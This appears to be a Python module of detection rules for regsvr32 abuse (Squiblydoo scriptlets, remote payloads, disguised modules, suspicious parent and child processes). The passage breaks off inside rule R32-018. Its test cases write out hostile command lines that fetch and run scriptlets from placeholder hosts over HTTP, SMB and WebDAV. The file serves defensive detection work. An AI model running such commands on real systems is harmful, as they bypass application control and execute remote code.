"""The rules, each declared once next to its check (see registry.py for the declaration form).

Checks read parsed parts only: the Invocation's targets, flags and anomalies, never raw
substrings of the command line. Sources name the seed analytics and public rules a rule
reproduces (ids as in research/detections.md: Sigma, Splunk ESCU, Elastic, MITRE CAR) and
the logic ids L01-L34 of that survey.
"""
import re

from . import cmdline, winpath
from .fields import (DNS, FILE, IMAGE_LOAD, NETWORK, PERSISTENCE, PROCESS, REGISTRY,
                     REMOTE_THREAD, REGSVR32)
from .registry import COMMAND_LINE, actor, any_event, child, finish, relaunch, rule
from .sigma_spec import (BY_REGSVR32, CLI, IMG, NON_PUBLIC, by_parent, ends, not_exportable,
                         spec)

T = "T1218.010"


# ---------------------------------------------------------------------------------------
# Tables the checks read. Names are lower-case file names.

SCRIPT_PARENTS = frozenset(("mshta.exe", "wscript.exe", "cscript.exe"))
# Shells and runtimes that deployment tools, package managers and desktop applications use to
# run regsvr32 every day (Intune, PSAppDeployToolkit, Chocolatey, scoop; Java desktop programs).
RUNTIME_PARENTS = frozenset(("powershell.exe", "pwsh.exe", "powershell_ise.exe", "java.exe",
                             "javaw.exe"))
OFFICE_PARENTS = frozenset((
    "winword.exe", "excel.exe", "powerpnt.exe", "outlook.exe", "onenote.exe", "onenotem.exe",
    "onenoteim.exe", "msaccess.exe", "mspub.exe", "visio.exe", "eqnedt32.exe", "wordpad.exe",
    "wordview.exe"))
# Servers and remote-execution hosts that have no business starting regsvr32
# (Splunk LOLBAS-spawn family, Sigma 8a582fe2 and the "suspicious child of X" rules).
SERVER_PARENTS = frozenset((
    "wmiprvse.exe", "wsmprovhost.exe", "winrshost.exe", "mmc.exe", "services.exe", "svchost.exe",
    "w3wp.exe", "httpd.exe", "nginx.exe", "tomcat.exe", "tomcat9.exe",
    "sqlservr.exe", "sqlagent.exe", "hh.exe", "msdt.exe", "sdiagnhost.exe", "fodhelper.exe",
    "3cxdesktopapp.exe", "pc-app.exe", "node.exe", "umworkerprocess.exe", "wlsvc.exe",
    "spoolsv.exe", "taskeng.exe", "taskhostw.exe"))
SUSPICIOUS_CHILDREN = frozenset((
    "calc.exe", "cmd.exe", "powershell.exe", "pwsh.exe", "cscript.exe", "wscript.exe",
    "mshta.exe", "rundll32.exe", "net.exe", "net1.exe", "nltest.exe", "whoami.exe", "notepad.exe",
    "reg.exe", "schtasks.exe", "explorer.exe", "werfault.exe", "certutil.exe", "bitsadmin.exe",
    "msbuild.exe", "installutil.exe", "regasm.exe", "regsvcs.exe", "wmic.exe", "curl.exe",
    "ipconfig.exe", "systeminfo.exe", "tasklist.exe", "nslookup.exe", "sc.exe", "at.exe"))
# Where Windows itself keeps regsvr32.exe (Sigma e4a6b256).
REGSVR32_HOMES = tuple(":\\" + home + "\\" for home in (
    "windows\\system32", "windows\\syswow64", "windows\\winsxs", "windows\\softwaredistribution",
    "windows\\systemtemp", "windows\\uus", "windows\\system", "$windows.~bt", "$winreagent"))
TRUSTED_SIGNATURE_STATUS = frozenset(("errorchaining", "errorcode_endpoint", "errorexpired", "expired",
                                      "trusted", "valid"))
SCRIPT_RUNTIMES = frozenset(("scrobj.dll",))
CLR_MODULES = frozenset(("clr.dll", "mscoree.dll", "mscorlib.dll", "mscorlib.ni.dll",
                         "clrjit.dll"))
# Extensions an image load by regsvr32 may legitimately have (Elastic EP 76da5dca).
LOADABLE_EXTS = winpath.MODULE_EXTS | frozenset((
    "exe", "tlb", "scr", "mui", "ime", "tsp", "rbf", "whl", "drv", "acm", "tmp", "nls", "winmd",
    "sys"))
# System32 programs that load the scriptlet runtime for a living (Elastic 4ed678a9).
SCROBJ_HOSTS = frozenset((
    "cscript.exe", "wscript.exe", "msiexec.exe", "smartscreen.exe", "taskhostw.exe", "w3wp.exe",
    "mshta.exe", "mobsync.exe", "cmd.exe", "openwith.exe", "wmiadap.exe", "powershell.exe",
    REGSVR32))
PERSISTENCE_TOOLS = frozenset(("schtasks.exe", "reg.exe", "sc.exe"))
_AUTORUN_KEYS = ("\\currentversion\\run", "\\currentversion\\policies\\explorer\\run",
                 "\\winlogon\\", "\\currentversion\\runservices", "\\image file execution options\\",
                 "\\imagepath", "\\command\\(default)")
_MODIFIER_LETTERS = re.compile("[\u02b0-\u02ff\u1d2c-\u1dbf]")
REMCOS_CLSID = "{89565275-a714-4a43-912e-978b935edccc}"


# ---------------------------------------------------------------------------------------
# Small readers shared by the checks.

def _role(target, inv):
    return "scriptlet (/i:)" if target is inv.install else "module"


def _where(target):
    return "%s: %s" % (target.location, target.where) if target.where else target.location


def _first(inv, aspect, value):
    """The first target (or module) of the command line with this aspect, or None."""
    return inv.first.get((aspect, value))


def _parent_in(ev, table, what):
    if ev.parent_name in table:
        return "started by %s %s" % (what, ev.parent_image or ev.parent_name)
    return None


def _connection(ev, public):
    if ev.initiated.lower() == "false":
        return None
    ip, _ = winpath.parse_ip(ev.dest_ip)
    if ip is None or winpath.is_public(ip) != public:
        return None
    where = "public" if public else "non-public (private, loopback or reserved)"
    return "regsvr32 connected to %s address %s%s" % (
        where, ip, (":" + ev.dest_port) if ev.dest_port else "")


def _clip(text, n=160):
    text = " ".join(text.split())
    return text if len(text) <= n else text[:n - 3] + "..."


@rule("R32-001", "Scriptlet run through scrobj.dll (Squiblydoo)",
      COMMAND_LINE, risk=85, family="scriptlets_and_remote_payloads", evidence="scriptlet",
      techniques=(T,),
      sources=("L01", "QOMPLX", "Splunk 070e9b80", "CAR-2019-04-003", "Elastic EP 0524c24c",
               "Fibratus"),
      description=("regsvr32 hands a scriptlet to scrobj.dll's DllInstall through /i:, local or "
                   "remote: the classic application-control bypass. Whatever the quoting: "
                   "switches quoted into one argument are read as their parts, scrobj.dll inside "
                   "the /i: argument counts, and so does scrobj.dll next to a scriptlet or URL "
                   "with no /i: read. Requires a scriptlet so that re-registering scrobj.dll "
                   "itself (a Windows Script Host repair step) stays quiet."),
      positives=(
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        "regsvr32.exe /s /u /i:C:\\Users\\Public\\file.sct scrobj.dll",
        {"EventCode": "4688", "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
         "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
         "CommandLine": 'regsvr32 /u /s /i:"http://198.51.100.7/x.sct" SCROBJ.DLL', "Image": None,
         "ParentImage": None},
        'regsvr32.exe "/s /i:https://cdn.example.net/x.sct scrobj.dll"',
        'regsvr32 /s /i:"https://cdn.example.net/x.sct scrobj.dll"',
        "regsvr32 /s https://cdn.example.net/x.sct scrobj.dll",),
      negatives=(
        "regsvr32 /s scrobj.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s C:\\Users\\Public\\a.sct C:\\Windows\\System32\\msxml6.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {"CommandLine|windash|contains": " -i:",
                                                          "CommandLine|contains": "scrobj"}},
                 "selection_img and selection_cli",
                 CLI + " an /i: switch and 'scrobj' anywhere, not scrobj.dll as the module"))
def squiblydoo(inv):
    scrobj = ("module name", "scrobj.dll") in inv.first
    if inv.install_arg is None:
        # no /i: read, but scrobj.dll next to a scriptlet or URL: the switches were mangled
        # (quoting, a launcher's re-splitting), the intent is the same
        other = [t for t in inv.modules if t.name != "scrobj.dll"
                 and (t.kind == "url" or t.ext_class == winpath.SCRIPTLET)]
        if scrobj and other:
            return "scriptlet %s next to scrobj.dll (no /i: read)" % _clip(other[0].raw)
        return None
    if not scrobj and "scrobj" not in inv.install_arg.lower():
        return None
    if inv.install is not None and inv.install.kind == "url":
        return "scriptlet fetched from %s via /i: and scrobj.dll" % _clip(inv.install_arg)
    return "scriptlet %s run via /i: and scrobj.dll" % (_clip(inv.install_arg) or "''")


@rule("R32-002", "Module or scriptlet fetched from a URL",
      COMMAND_LINE, risk=90, family="scriptlets_and_remote_payloads", evidence="remote",
      techniques=(T, "T1105"), sources=("L03", "QOMPLX", "Sigma 867356ee", "Sigma 8e2b24c9"),
      description=("A /i: argument or module given as an http, https, ftp or file URL: regsvr32 "
                   "downloads and runs it."),
      positives=(
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        'regsvr32 -s -u "-i:https://cdn.example.net/a.sct" x.dll',
        "regsvr32 /u /i:file://files.example.org/share/a.sct scrobj.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s /n /i:user C:\\x\\a.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {
                     "CommandLine|contains": ["http://", "https://", "ftp://", "file://"]}},
                 "selection_img and selection_cli", CLI + " a URL anywhere, not as a target"))
def remote_url(inv):
    t = _first(inv, "kind", "url")
    if t is None:
        return None
    return "%s %s fetched from the internet (%s, host %s)" % (
        _role(t, inv), _clip(t.raw), t.where, t.host or "?")


@rule("R32-003", "Payload served from a raw or encoded IP address",
      COMMAND_LINE, risk=90, family="scriptlets_and_remote_payloads", evidence="remote",
      techniques=(T, "T1105"), sources=("L04", "Sigma 2dd2c217"),
      description=("The URL or share host is an IP literal, in any notation inet_aton accepts: "
                   "dotted, hex, octal, one integer, short forms or IPv6."),
      positives=(
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        "regsvr32 /s /u /i:http://0x0a010203/a.sct scrobj.dll",
        "regsvr32 /s /u /i:http://[2001:db8::7]/a.sct scrobj.dll",
        "regsvr32 /s \\\\192.0.2.44\\share\\x.dll",),
      negatives=(
        "regsvr32 /s /u /i:http://7zip.example.com/a.sct scrobj.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_cli": {"CommandLine|re":
                  r"(?i)(?:(?:https?|ftp)://|\\\\)(?:\[[0-9a-f:.]+\]|0x[0-9a-f]+|[0-9]+(?:\.(?:0x[0-9a-f]+|[0-9]+)){0,3})(?:[:/\\]|$)"}},
                 "selection_img and selection_cli",
                 "a regular expression for IP literals after a scheme or \\\\; the detector "
                 "decodes every notation inet_aton accepts"))
def ip_host(inv):
    t = _first(inv, "ip", True)
    if t is None:
        return None
    if t.ip_encoding in ("dotted", "ipv6"):
        how = "IP address %s" % t.ip
    else:
        how = "%s-encoded IP address %s (= %s)" % (t.ip_encoding, t.host, t.ip)
    return "%s %s is served from the raw %s" % (_role(t, inv), _clip(t.raw), how)


@rule("R32-004", "Scriptlet-style /i: path or URL given to a module other than scrobj.dll",
      COMMAND_LINE, risk=70, family="scriptlets_and_remote_payloads", evidence="scriptlet",
      lowered_by=("windows", "trusted"),
      techniques=(T,), sources=("L02", "Elastic EP 0524c24c", "Fibratus"),
      description=("An /i: argument that is a path or URL, handed to some other module: a "
                   "renamed or copied scrobj.dll runs scriptlets exactly like the original."),
      positives=(
        "regsvr32 /s /u /i:http://example.com/a.sct C:\\Users\\Public\\x.dll",
        {"CommandLine": "regsvr32 /u /i:C:\\ProgramData\\a.sct .\\jabber.dll",
         "CurrentDirectory": "C:\\ProgramData\\"},),
      negatives=(
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',),
      sigma=not_exportable("needs to know which module receives the /i: argument (parsed command line)"))
def renamed_scrobj(inv):
    if inv.install is None or ("module name", "scrobj.dll") in inv.first:
        return None
    module = inv.modules[0].path if inv.modules else "no module at all"
    return "/i: hands the %s %s to %s: a renamed scrobj.dll runs scriptlets this way" % (
        "URL" if inv.install.kind == "url" else "path", _clip(inv.install_arg), _clip(module))


@rule("R32-005", "/i without /n: DllInstall and DllRegisterServer both run",
      COMMAND_LINE, risk=30, family="implicit_dllregisterserver_and_odd_invocations",
      lowered_by=("windows", "trusted", "agent"),
      evidence="invocation",
      techniques=(T,), sources=("L05", "L07", "Sigma b236190c", "Splunk f421c250", "Fibratus"),
      description=("With /i and no /n, regsvr32 calls the module's DllInstall and then its "
                   "DllRegisterServer (DllUnregisterServer with /u): two entry points of code."),
      positives=(
        'regsvr32 /s /i "C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll"',
        "regsvr32 \u2013s \u2013i:x C:\\Tools\\a.dll",),
      negatives=(
        "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_i": {"CommandLine|windash|contains": " -i"},
                  "filter_n": {"CommandLine|windash|contains": " -n"}},
                 "selection_img and selection_i and not filter_n",
                 "switches found as substrings; the detector reads combined switch groups"))
def install_without_n(inv):
    if "i" not in inv.flags or "n" in inv.flags:
        return None
    second = "DllUnregisterServer" if "u" in inv.flags else "DllRegisterServer"
    module = inv.modules[0].path if inv.modules else "the module"
    return "/i without /n: %s gets DllInstall and then %s" % (_clip(module), second)


@rule("R32-006", "Silent DllRegisterServer call on a module outside the system and Program Files",
      COMMAND_LINE, risk=15, family="implicit_dllregisterserver_and_odd_invocations",
      lowered_by=("own tree", "agent"),
      evidence="invocation",
      techniques=(T,), sources=("L06", "L08", "Sigma ce2c44b5", "Splunk c9ef7dc4"),
      description=("/s or /e, no /i and no /u, and a module (resolved against the working "
                   "directory) that is not under Windows or Program Files. Reproduces Sigma "
                   "ce2c44b5 on the parsed module, so the image path in the command line no "
                   "longer hides it."),
      positives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Users\\alice\\Desktop\\x.dll",
        {"CommandLine": "regsvr32.exe /s payload.dll",
         "CurrentDirectory": "C:\\Users\\alice\\Downloads\\"},
        " /s C:\\AtomicRedTeam\\atomics\\T1117\\bin\\AllTheThingsx86.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
        "regsvr32  DevExpress.Data.v14.1.dll",
        "regsvr32 /s /u C:\\Users\\Public\\x.dll",),
      sigma=not_exportable("needs the module's resolved folder; the image path at the start of the line "
                           "defeats a substring filter (the flaw of Sigma ce2c44b5)"))
def silent_register_outside(inv):
    if not inv.flags & {"s", "e"} or inv.flags & {"i", "u"}:
        return None
    for m in inv.modules:
        if m.location not in winpath.TRUSTED_LOCATIONS and m.location != winpath.UNKNOWN:
            return "silent DllRegisterServer call on %s (%s)" % (_clip(m.path), _where(m))
    return None


def _payloads(inv):
    """The targets that can be code: the modules, and the /i: argument when it is a scriptlet or
    goes to scrobj.dll or to a module outside Windows and Program Files (a vendor's module in
    Program Files takes folders as settings through /i:)."""
    t = inv.install
    if t is None:
        return inv.modules
    if (t.ext_class == winpath.SCRIPTLET or ("module name", "scrobj.dll") in inv.first
            or any(m.location not in winpath.TRUSTED_LOCATIONS for m in inv.modules)):
        return inv.targets
    return inv.modules


# Where users keep files they fetched or made: a module right there is what a user registers by
# hand after a download as often as what a phishing chain drops (R32-052, medium).
USER_FILE_FOLDERS = frozenset(("Downloads", "Desktop", "Documents"))


@rule("R32-007", "Module or scriptlet in a user-writable staging folder",
      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
      evidence="location",
      techniques=(T,),
      sources=("L09", "Sigma 9525dc73", "Elastic EP 5db08297", "Elastic cff92c41",
               "Splunk 62732736"),
      description=("A module or /i: scriptlet where payloads are dropped: Users\\Public, any Temp "
                   "folder (also Windows\\Temp and Windows\\Tasks), or right in ProgramData, "
                   "AppData or the profile rather than in a folder of its own, after resolving "
                   "8.3 names, forward slashes, '..' and %VARIABLES%. Per-user installs have a "
                   "folder of their own (R32-040); Downloads, Desktop and Documents are R32-052."),
      positives=(
        "regsvr32.exe /s C:\\Users\\Public\\payload.dll",
        "regsvr32 /s C:/Users/Public/x.dat",
        "regsvr32 /s C:\\Windows\\System32\\..\\..\\Users\\Public\\x.dll",
        "regsvr32 /s C:\\PROGRA~3\\x.dat",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',
        "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\App\\shellext.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_path": {"CommandLine|contains": [
                     "\\AppData\\", "\\Temp\\", ":\\Users\\Public\\", ":\\ProgramData\\",
                     "\\Downloads\\", "\\Desktop\\", "\\Documents\\", "\\Pictures\\",
                     "\\Music\\", "\\Windows\\Tasks\\"]}},
                 "selection_img and selection_path",
                 CLI + " the folder; 8.3 names, '..', %VARIABLES% and relative names resolved "
                 "against the working directory get past it"))
def user_writable(inv):
    for t in _payloads(inv):
        if t.staging and t.where not in USER_FILE_FOLDERS:
            return "%s %s is in a user-writable staging folder (%s)" % (
                _role(t, inv), _clip(t.path), t.where)
    return None


@rule("R32-008", "Module with a non-module extension in a user-writable folder",
      COMMAND_LINE, risk=70, family="suspicious_paths_and_disguised_extensions", evidence="format",
      techniques=(T,), sources=("ESCU 62732736", "L09", "L11", "Sigma 4fcac6eb", "Sigma e6eb5a96"),
      description=("A module in a user-writable folder whose extension is not .dll, .ocx, .ax or "
                   ".cpl: the Splunk ESCU seed analytic, fixed to read the module's own "
                   "extension rather than any '.dll' anywhere in the line (which 'x.dll.jpg' or "
                   "a decoy argument defeat)."),
      positives=(
        "regsvr32 /s C:\\ProgramData\\x.tmp",
        "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll.jpg /i:a.dll",
        "regsvr32 -s C:\\Windows\\Temp\\payload",),
      negatives=(
        "regsvr32 /s C:\\ProgramData\\x.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
      sigma=not_exportable("needs the module's own extension and folder; any '.dll' in the line defeats a "
                           "substring match"))
def writable_non_module(inv):
    # a per-user application folder holds all kinds of files: there, only a disguise counts
    for m in inv.modules:
        if m.location == winpath.USER_WRITABLE and m.ext_class != winpath.MODULE and (
                m.staging or m.ext_class == winpath.DISGUISED):
            ext = ("." + m.ext) if m.ext else "no"
            return "module %s in %s has %s extension, not .dll/.ocx/.ax/.cpl" % (
                _clip(m.path), m.where, ext)
    return None


@rule("R32-009", "Module or scriptlet in a folder malware favours",
      COMMAND_LINE, risk=75, family="suspicious_paths_and_disguised_extensions",
      evidence="location",
      techniques=(T,), sources=("L10", "Sigma 327ff235", "Elastic cff92c41"),
      description=("PerfLogs, C:\\Temp, Windows\\Tracing, Registration\\CRMLog, System32\\com\\dmp, "
                   "FxsTmp, spool folders, MachineKeys, Tasks, the Recycle Bin and other Windows "
                   "subfolders that legitimate software does not register modules from."),
      positives=(
        "regsvr32 /s C:\\PerfLogs\\a.dll",
        "regsvr32 /s C:\\Windows\\System32\\spool\\drivers\\color\\x.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        'regsvr32 /s "C:\\Program Files\\Oracle\\VirtualBox\\VBoxC.dll"',),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_path": {"CommandLine|contains": [
                     ":\\PerfLogs\\", ":\\Temp\\", "\\Windows\\Tracing\\", "\\Registration\\CRMLog",
                     "\\System32\\com\\dmp\\", "\\FxsTmp\\", "\\spool\\drivers\\color\\",
                     "\\spool\\PRINTERS\\", "\\spool\\SERVERS\\", "\\Crypto\\RSA\\MachineKeys\\",
                     "\\System32\\Tasks\\", "\\$Recycle.Bin\\"]}},
                 "selection_img and selection_path", CLI + " the folder (as R32-007)"))
def suspicious_folder(inv):
    for t in _payloads(inv):
        if t.location == winpath.SUSPICIOUS:
            return "%s %s is in %s, a folder malware favours" % (_role(t, inv), _clip(t.path), t.where)
    return None


@rule("R32-010", "Module disguised as an image, document, log or temp file",
      COMMAND_LINE, risk=75, family="suspicious_paths_and_disguised_extensions", evidence="format",
      techniques=(T, "T1036.008"),
      sources=("L11", "Sigma 089fc3d2", "Elastic EP 5db08297", "Sigma 4fcac6eb"),
      description=("The module's own extension is one of an image, data, document, log or temp "
                   "file (.jpg, .png, .dat, .log, .tmp, .txt, .pdf ...), quoted or not, trailing "
                   "blanks or not."),
      positives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Users\\bob\\AppData\\Local\\Temp\\shell32.jpg",
        "regsvr32.exe -s meow.txt",
        'regsvr32 /s "C:\\Users\\alice\\AppData\\Local\\Temp\\shell32.jpg" ',),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s C:\\x\\img.jpg.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_ext": {"CommandLine|re":
                  r"(?i)\.(?:%s)(?:[\"'\s,]|$)" % "|".join(sorted(winpath.DISGUISED_EXTS))}},
                 "selection_img and selection_ext",
                 "any argument ending in a disguise extension, not only the module's"))
def disguised_extension(inv):
    m = inv.first.get(("module ext", winpath.DISGUISED))
    if m is None:
        return None
    return "module %s poses as a .%s file" % (_clip(m.path), m.ext)


@rule("R32-011", "Module with an unusual extension",
      COMMAND_LINE, risk=55, family="suspicious_paths_and_disguised_extensions", evidence="format",
      lowered_by=("windows", "trusted"),
      techniques=(T,), sources=("L12", "Sigma 50919691"),
      description=("The module's extension is neither a module's (.dll, .ocx, .ax, .cpl), nor a "
                   "disguise (R32-010), nor missing (the loader adds .dll): .exe, .bav, .ppl, "
                   ".xyz ..."),
      positives=(
        "regsvr32 /s C:\\Tools\\stage2.exe",
        "regsvr32 /s x.foo",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s C:\\Tools\\stage2",),
      sigma=not_exportable("needs the module's own extension (an allowlist of extensions)"))
def unusual_extension(inv):
    m = inv.first.get(("module ext", winpath.OTHER_EXT))
    if m is None:
        return None
    return "module %s has the unusual extension .%s" % (_clip(m.path), m.ext)


@rule("R32-012", "Module or scriptlet on a remote SMB share",
      COMMAND_LINE, risk=70, family="scriptlets_and_remote_payloads", evidence="remote",
      techniques=(T,), sources=("L13", "Sigma 88a87a10"),
      description=("A UNC path (\\\\host\\share\\...), also after /i:, quoted, or behind \\\\?\\UNC\\."),
      positives=(
        "regsvr32 /s \\\\fileserver\\pub\\x.dll",
        "regsvr32 /s /n /u /i:\\\\10.1.2.3\\share\\a.sct scrobj.dll",
        'regsvr32 /s "\\\\?\\UNC\\host\\share\\x.dll"',),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_unc": {"CommandLine|re": r"(?:^|[\s\"':])\\\\[^\\\s]"}},
                 "selection_img and selection_unc", "any \\\\host argument, not only a target"))
def unc_share(inv):
    t = _first(inv, "kind", "unc")
    if t is None:
        return None
    return "%s %s is loaded from the SMB share of %s" % (_role(t, inv), _clip(t.path), t.host)


@rule("R32-013", "Module or scriptlet fetched over WebDAV",
      COMMAND_LINE, risk=80, family="scriptlets_and_remote_payloads", evidence="remote",
      techniques=(T, "T1105"), sources=("L13", "Elastic EP 4bdd5646", "Elastic EP 5db08297"),
      description=("A share path that WebDAV serves: host@SSL, host@80 or @443, or a DavWWWRoot "
                   "folder."),
      positives=(
        "regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll",
        "regsvr32 /s \\\\files.example.com@80\\share\\x.dll",),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        "regsvr32 /s \\\\fileserver\\pub\\x.dll",),
      sigma=spec("approximate", "process_creation",
                 {"selection_img": IMG, "selection_dav": {"CommandLine|contains": [
                     "\\DavWWWRoot\\", "@SSL\\", "@SSL@", "@80\\", "@443\\", "@8080\\", "@8443\\"]}},
                 "selection_img and selection_dav", CLI + " a WebDAV path marker"))
def webdav(inv):
    t = _first(inv, "kind", "webdav")
    if t is None:
        return None
    return "%s %s is loaded over WebDAV from %s" % (_role(t, inv), _clip(t.path), t.host)


@rule("R32-014", "regsvr32 started by a script host",
      actor(PROCESS), risk=55, family="parent_lineage", evidence="lineage",
      lowered_by=("windows", "trusted"),
      techniques=(T, "T1059"),
      sources=("L14", "Sigma ab37a6ec", "Splunk 4aa5d062", "Splunk 1f35e1da",
               "Sentinel bef2bd1b"),
      description=("Parent is mshta, wscript or cscript. cmd.exe is left out (installer batch "
                   "files start regsvr32 all day) and PowerShell is R32-042."),
      positives=(
        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         "ParentImage": "C:\\Windows\\System32\\mshta.exe"},
        {"CommandLine": "regsvr32 /s x.dll", "ParentImage": "C:\\Windows\\System32\\wscript.exe"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         "ParentImage": "C:\\Windows\\explorer.exe"},
        {"CommandLine": "regsvr32 /s x.dll",
         "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},),
      sigma=by_parent(SCRIPT_PARENTS))
def script_parent(ev):
    return _parent_in(ev, SCRIPT_PARENTS, "script host")


@rule("R32-015", "regsvr32 started by an Office application",
      actor(PROCESS), risk=75, family="parent_lineage", evidence="lineage",
      techniques=(T, "T1204.002"),
      sources=("L15", "Splunk 2d9fc90c", "Sigma 438025f9", "Elastic a624863f", "Sigma e6eb5a96"),
      description=("Parent is Word, Excel, PowerPoint, Outlook, OneNote, Access, Publisher, "
                   "Visio or the Equation Editor: a macro or exploit at work."),
      positives=(
        {"CommandLine": "regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\a.ocx",
         "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
      sigma=by_parent(OFFICE_PARENTS))
def office_parent(ev):
    return _parent_in(ev, OFFICE_PARENTS, "Office application")


@rule("R32-016", "regsvr32 started by a server or remote-execution host",
      actor(PROCESS), risk=60, family="parent_lineage", evidence="lineage",
      lowered_by=("windows",),
      techniques=(T, "T1047"),
      sources=("L16", "Splunk 95a455f0", "Splunk ba9e1954", "Splunk 09e5c72a", "Sigma 8a582fe2",
               "Sigma d52d2e87"),
      description=("Parent is WmiPrvSE, WsmProvHost, WinRS, services, svchost, MMC, a web, "
                   "database or Java server, hh, msdt or fodhelper: remote execution, "
                   "exploitation or a persisted launch rather than an installer."),
      positives=(
        {"CommandLine": "regsvr32.exe /i C:\\x.dll",
         "ParentImage": "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"},
        {"CommandLine": "regsvr32 /s C:\\inetpub\\a.dll",
         "ParentImage": "c:\\windows\\system32\\inetsrv\\w3wp.exe"},),
      negatives=(
        "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         "ParentImage": "C:\\Windows\\System32\\msiexec.exe"},),
      sigma=by_parent(SERVER_PARENTS))
def server_parent(ev):
    return _parent_in(ev, SERVER_PARENTS, "server process")


@rule("R32-017", "regsvr32 started a shell, script host or reconnaissance tool",
      child(), risk=80, family="children_of_regsvr32", evidence="behaviour",
      techniques=(T, "T1059"), sources=("L17", "Veramine", "Sigma 6f0947a4", "Splunk 61490da9"),
      description=("A child of regsvr32 such as calc, cmd, PowerShell, wscript, mshta, rundll32, "
                   "net, nltest, whoami, reg, schtasks or explorer: the registered code is "
                   "running commands."),
      positives=(
        {"Image": "C:\\Windows\\System32\\calc.exe",
         "CommandLine": '"C:\\Windows\\System32\\calc.exe" ',
         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},
        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami",
         "ParentImage": "C:\\Windows\\SysWOW64\\regsvr32.exe"},),
      negatives=(
        {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": "calc.exe"},
        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},),
      sigma=spec("exact", "process_creation",
                 {"selection": {"ParentImage|endswith": "\\regsvr32.exe",
                                "Image|endswith": ends(SUSPICIOUS_CHILDREN)}},
                 "selection", ""))
def suspicious_child(ev):
    if ev.image_name not in SUSPICIOUS_CHILDREN:
        return None
    return "regsvr32 started %s: %s" % (ev.image_name, _clip(ev.command_line or ev.image))


@rule("R32-018", "regsvr32 started a child process",
      child(), risk=50, family="children_of_regsvr32", evidence="behaviour",
      techniques=(T,), sources=("CAR-2019-04-002", "Veramine", "L17"),
      description=("Any child of regsvr32 other than regsvr32 itself (the 64-to-32-bit "
                   "re-launch): registration code rarely starts programs. The default allowlist "
                   "keeps WerFault crash reporting (-u -p) and wevtutil, as CAR does."),
      positives=(
        {"Image": "C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe",
         "CommandLine": "C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe",
